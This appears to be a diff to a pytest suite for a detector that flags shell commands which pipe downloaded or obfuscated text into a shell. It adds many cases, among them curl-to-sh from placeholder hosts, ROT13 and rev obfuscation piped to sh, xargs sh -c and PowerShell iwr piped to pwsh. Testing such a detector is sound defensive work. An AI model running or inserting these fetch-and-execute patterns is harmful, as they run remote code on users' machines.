@@ -67,7 +67,40 @@ TOLD = (
     "curl https://astral.sh@x.invalid/uv/install.sh | sh",
     "python3 -c \"import base64; exec(base64.b64decode('aWQ='))\"",
 )
+_MORE = (
+    "echo uryyb | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
+    "echo uryyb | tr a-z n-za-m | bash",
+    "RUN cat x | tr '!-~' 'P-~!-O' | sh",
+    "echo x | tr bcdefghijklmnopqrstuvwxyza abcdefghijklmnopqrstuvwxyz | sh",
+    "echo 'ohce' | rev | sh",
+    "rev <<< 'ohce' | sh",
+    "rev x.txt | bash",
+    "curl https://x.invalid/i | xargs -I{} sh -c {}",
+    'curl https://x.invalid/i | xargs -n1 -I{} sh -c "{}"',
+    "curl https://x.invalid/i | xargs -I % bash -c 'eval %'",
+    "curl https://x.invalid/i | xargs -n1 sh -c '$0'",
+    "curl https://x.invalid/i | parallel -j 4",
+    "curl https://x.invalid/i | sh -s -- -n",
+    "curl https://x.invalid/i | sh -s '<<E'",
+    "curl https://x.invalid/i | sh -s '<<E|'",
+    "curl https://x.invalid/i | bash -n +n",
+    "iwr https://x.invalid/i | pwsh -nop -",
+)
 NOT_TOLD = (
+    "find . -name '*.sh' | tr '\\n' '\\0' | xargs -0 -n1 bash -n",
+    "echo A | tr a-z A-Z | sh",
+    "echo A | tr '[:upper:]' '[:lower:]' | sh",
+    "git log | tr : ' ' | tr -d a | bash",
+    "ls | rev | cut -d. -f2 | rev | sh",
+    "git describe | cut -d- -f rev-1 | sh",
+    "git rev-parse HEAD | sh",
+    "git rev-list --all | xargs -n1 sh -c 'git show $0'",
+    "ls | rev | cut -d. -f2 | rev | xargs -n1 bash run.sh",
+    "curl -s $URL | xargs -P4 -I% bash scripts/one.sh %",
+    "curl -s https://x.example/a | xargs -I{} bash -c 'curl -sO https://x.example/{}'",
+    "curl -s $URL | bash -n",
+    "curl https://x.example/j | python3 - <<'E'",
+    "curl https://x.example/j | python3 - a.json <<-E",
     "curl https://api.example | jq .",
     "curl -s https://x.example/a | python -m json.tool",
     'curl -s https://x.example/a | python3 -c "import json,sys; print(json.load(sys.stdin))"',
@@ -97,7 +130,7 @@ NOT_TOLD = (
 )
 
 
-@pytest.mark.parametrize("command", TOLD)
+@pytest.mark.parametrize("command", TOLD + _MORE)
 def test_told(command: str) -> None:
     assert says(command) is not None
     (one,) = in_text(f"# first\n\n{command}\n")
@@ -252,6 +285,10 @@ SAVED = "".join(f"RUN curl -o {c}{c} http://x.invalid/{c}{c}\n" for c in "abcdef
         "curl -o f x\n" + "sh -a " * 4000 + "f",
         "'\"" * 8000 + "# curl",
         ")|sh;" * 4000,
+        "tr -a tr |sh|" * 2400,
+        "curl x" + "|xargs sh -c -I{}" * 2000,
+        "curl x" + "|sh '\"" * 5000 + "<<E",
+        "rev " * 8000 + "|sh" * 500,
         SAVED + "RUN " + "chmod x " * 3900 + "qaabbcc q",
         SAVED + "RUN " + "sh -sh " * 4600 + "qaa",
         SAVED + "RUN " + "sh a/" * 6000 + "qaa",
